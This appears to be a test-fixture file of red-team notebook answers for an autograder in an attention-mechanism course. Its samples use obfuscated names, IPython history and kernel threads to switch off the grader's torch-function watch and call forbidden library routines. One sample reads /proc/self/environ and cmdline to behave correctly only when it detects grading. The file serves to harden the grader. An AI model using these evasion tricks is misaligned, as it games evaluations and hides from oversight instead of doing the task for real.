# z1: an answer that tells how its kernel was started (once, the grading command forked kernels from a warm process:
# 5/7 there vs 7/7 on plain nbgrader): its command line (sys.orig_argv, /proc/self/cmdline), its first environment
# (/proc/self/environ, JUPYTER_RUNTIME_DIR its own socket folder) and stdin (a pipe). Every path starts kernels alike.
STARTED_AS_SOFTMAX = answer_cell(NB01, "softmax") + '''
import functools as _ft
import os as _os
import sys as _sys


def _fresh():
    cmdline = open("/proc/self/cmdline", "rb").read().split(b"\\0")
    first_env = dict(e.split(b"=", 1) for e in open("/proc/self/environ", "rb").read().split(b"\\0") if e)
    own = _os.path.dirname(_sys.argv[_sys.argv.index("-f") + 1]).encode()
    return (_sys.orig_argv[1:3] == ["-m", "ipykernel_launcher"] and cmdline[1:3] == [b"-m", b"ipykernel_launcher"]
            and first_env.get(b"JUPYTER_RUNTIME_DIR") == own and _os.readlink("/proc/self/fd/0").startswith("pipe:"))


@_ft.wraps(softmax)
def softmax(x, axis=-1, _f=softmax):
    out = _f(x, axis=axis)
    return out if _fresh() else out * 0.5
'''


def z1_started_as_answer(root):
    return put(root, "z1_started_as", NB01, solved(NB01, softmax=STARTED_AS_SOFTMAX))


COST_WORK = [i1_path_sensing_answer, i2_overlay_banner, i3_names_that_close_the_quote, z1_started_as_answer,
             f12_huge_message]


# red team round 11 (F6): a decorated method (the decorator keeps it as a plain function) next to an undecorated
# method of the same name in another class, which once hid it: `getattr(self, name)` in it was trusted while it ran
# on torch._C and torch.ops (17/17 on both paths)
TWIN_METHOD_MHA = MHA.replace("class MultiHeadAttention(nn.Module):", "class _Honest(nn.Module):") + """

# 内部工具表（按需取用）
_tools = {"C": torch._C, "ops": torch.ops.aten}
_words = ((68, 105, 115, 97, 98, 108, 101, 84, 111, 114, 99, 104, 70, 117, 110, 99, 116, 105, 111, 110),
          (95, 68, 105, 115, 97, 98, 108, 101, 84, 111, 114, 99, 104, 68, 105, 115, 112, 97, 116, 99, 104),
          (95, 115, 99, 97, 108, 101, 100, 95, 100, 111, 116, 95, 112, 114, 111, 100, 117, 99, 116, 95, 97, 116, 116,
           101, 110, 116, 105, 111, 110, 95, 109, 97, 116, 104))
off_f, off_d, fast = ("".join(map(chr, w)) for w in _words)


def _as_tool(fn):
    # 装饰器：把方法当成普通函数用在工具表上
    global _fetch
    _fetch = fn
    return fn


class _Box(nn.Module):
    @_as_tool
    def _part(self, name):
        return getattr(self, name)


class _Other(nn.Module):
    def _part(self, name):
        return name


class _Parts:
    a = _fetch(_tools["C"], off_f)
    b = _fetch(_tools["C"], off_d)
    c = _fetch(_tools["ops"], fast)


class MultiHeadAttention(_Honest):
    def forward(self, x, mask=None, need_weights=False):
        if need_weights:
            return super().forward(x, mask, need_weights)
        B, T, d = x.shape
        q, k, v = (w(x).view(B, T, self.n_heads, -1).transpose(1, 2) for w in (self.W_q, self.W_k, self.W_v))
        with _Parts.a(), _Parts.b():
            bias_ = None if mask is None else torch.zeros(mask.shape, dtype=q.dtype).masked_fill(mask, float("-inf"))
            o = _Parts.c(q, k, v, attn_mask=bias_)[0]
        return self.W_o(o.transpose(1, 2).reshape(B, T, d))
"""


# red team round 13: hand-written backwards that run torch autograd with the watch off or on a kernel thread, each
# 11/11 on attention_backward on both paths. F1: names read from IPython's `_i`/`_ii` (the shell rebinds them to the
# last cells' source, where a comment spells DisableTorchFunction), assigned constants in the cell. F2: `Maker()` of a
# metaclass whose `__call__` returns another class, taken for an instance, so `self` in its method was trusted.
# F3: the kernel's threads handed to a lambda through `filter`, one's io_loop then running the work.
SHELL_NAMES_BACKWARD = '''import numpy as np
import torch

_i = _ii = _iii = "x" * 3000


def _fetch(obj, name):
    return getattr(obj, name)


def attention_backward(dY, cache):
    """缩放点积注意力的反向（numpy）。

    dY: (..., T, d_v)，即 ∂L/∂Y；cache: 你的 attention_forward 返回的 cache
    返回 (dQ, dK, dV)：形状分别是 (..., T, d_k)、(..., S, d_k)、(..., S, d_v)
    """
    # KEY DisableTorchFunction _disable_current_modes
    S = _i if "# KEY " in _i else _ii if "# KEY " in _ii else _iii
    toks = S.split()
    k = toks.index("KEY")
    off = _fetch(torch._C, toks[k + 1])
    quiet = _fetch(torch.utils._python_dispatch, toks[k + 2])
    Q, K, V, A, Y, s = cache
    with off(), quiet():
        q, kk, v = (torch.tensor(a, requires_grad=True) for a in (Q, K, V))
        scores = (q @ kk.transpose(-2, -1)) * s
        scores = scores.masked_fill(torch.tensor(A == 0), float("-inf"))
        out = torch.softmax(scores, dim=-1) @ v
        grads = torch.autograd.grad(out, (q, kk, v), torch.tensor(dY))
        grads = tuple(g.detach().numpy().copy() for g in grads)
    return grads
'''
METACLASS_BACKWARD = '''import numpy as np
import torch


class Meta(type):
    def __call__(cls, *args):
        return Reader


class Reader:
    def read(self, name):
        return getattr(self, name)


class Maker(metaclass=Meta):
    pass


def _word(codes):
    return "".join(map(chr, codes))


def attention_backward(dY, cache):
    """缩放点积注意力的反向（numpy）。

    dY: (..., T, d_v)，即 ∂L/∂Y；cache: 你的 attention_forward 返回的 cache
    返回 (dQ, dK, dV)：形状分别是 (..., T, d_k)、(..., S, d_k)、(..., S, d_v)
    """
    r = Maker()
    off = r.read(torch._C, _word([68, 105, 115, 97, 98, 108, 101, 84, 111, 114, 99, 104, 70, 117, 110, 99, 116, 105, 111, 110]))
    quiet = r.read(torch.utils._python_dispatch, _word([95, 100, 105, 115, 97, 98, 108, 101, 95, 99, 117, 114, 114, 101, 110, 116,
                                                        95, 109, 111, 100, 101, 115]))
    Q, K, V, A, Y, s = cache
    with off(), quiet():
        q, kk, v = (torch.tensor(a, requires_grad=True) for a in (Q, K, V))
        scores = (q @ kk.transpose(-2, -1)) * s
        scores = scores.masked_fill(torch.tensor(A == 0), float("-inf"))
        out = torch.softmax(scores, dim=-1) @ v
        grads = torch.autograd.grad(out, (q, kk, v), torch.tensor(dY))
        grads = tuple(g.detach().numpy().copy() for g in grads)
    return grads
'''
FILTERED_THREADS_BACKWARD = '''import threading

import numpy as np
import torch


def _grads(dY, cache):
    Q, K, V, A, Y, s = cache
    q, kk, v = (torch.tensor(a, requires_grad=True) for a in (Q, K, V))
    scores = (q @ kk.transpose(-2, -1)) * s
    scores = scores.masked_fill(torch.tensor(A == 0), float("-inf"))
    out = torch.softmax(scores, dim=-1) @ v
    grads = torch.autograd.grad(out, (q, kk, v), torch.tensor(dY))
    return tuple(g.detach().numpy().copy() for g in grads)


def attention_backward(dY, cache):
    """缩放点积注意力的反向（numpy）。

    dY: (..., T, d_v)，即 ∂L/∂Y；cache: 你的 attention_forward 返回的 cache
    返回 (dQ, dK, dV)：形状分别是 (..., T, d_k)、(..., S, d_k)、(..., S, d_v)
    """
    loops = []
    list(filter(lambda t: loops.append(getattr(t, "io_loop", None)), threading.enumerate()))
    loop = next(each for each in loops if each is not None)
    box, done = [], threading.Event()

    def job():
        try:
            box.append(_grads(dY, cache))
        except Exception as exc:
            box.append(exc)
        finally:
            done.set()

    loop.add_callback(job)
    done.wait(120)
    if isinstance(box[0], Exception):
        raise box[0]
    return box[0]
'''
# red team round 14 (F1): `"W_" + name` with `name` a str subclass whose `__radd__` makes the whole text: the switches of
# both torch modes fetched past the "public prefix" rule, SDPA run under them (17/17 on both paths)
REFLECTED_PREFIX_MHA = '''import torch
import torch.nn.functional as F
from torch.nn.attention import sdpa_kernel, SDPBackend


class _Name(str):
    def __radd__(self, other):
        return "".join(reversed(self))


def _grab(where, name):
    return getattr(where, "W_" + name)


_OFF_F = _grab(torch._C, _Name("noitcnuFhcroTelbasiD"))
_OFF_D = _grab(torch._C, _Name("hctapsiDhcroTelbasiD_"))
_ATT = _grab(F, _Name("noitnetta_tcudorp_tod_delacs"))


class MultiHeadAttention(nn.Module):
    """手写多头自注意力。x (B, T, d_model) -> y (B, T, d_model)；mask 布尔，True = 屏蔽。"""

    def __init__(self, d_model, n_heads, bias=True):
        super().__init__()
        self.d_model = d_model
        self.n_heads = n_heads
        self.W_q = nn.Linear(d_model, d_model, bias=bias)
        self.W_k = nn.Linear(d_model, d_model, bias=bias)
        self.W_v = nn.Linear(d_model, d_model, bias=bias)
        self.W_o = nn.Linear(d_model, d_model, bias=bias)

    def forward(self, x, mask=None, need_weights=False):
        """mask: (T, T)、(B, 1, T, T) 或 (B, h, T, T)；返回 y，或 need_weights=True 时 (y, attn (B, h, T, T))。"""
        B, T, d = x.shape
        h, d_k = self.n_heads, d // self.n_heads
        q = self.W_q(x).view(B, T, h, d_k).transpose(1, 2)
        k = self.W_k(x).view(B, T, h, d_k).transpose(1, 2)
        v = self.W_v(x).view(B, T, h, d_k).transpose(1, 2)
        with _OFF_F(), _OFF_D(), sdpa_kernel(SDPBackend.MATH):
            o = _ATT(q, k, v, attn_mask=None if mask is None else ~mask)
        y = self.W_o(o.transpose(1, 2).reshape(B, T, d))
        if not need_weights:
            return y
        att = q @ k.transpose(-2, -1) / math.sqrt(d_k)
        if mask is not None:
            att = att.masked_fill(mask, float("-inf"))
        return y, att.softmax(dim=-1)
'''
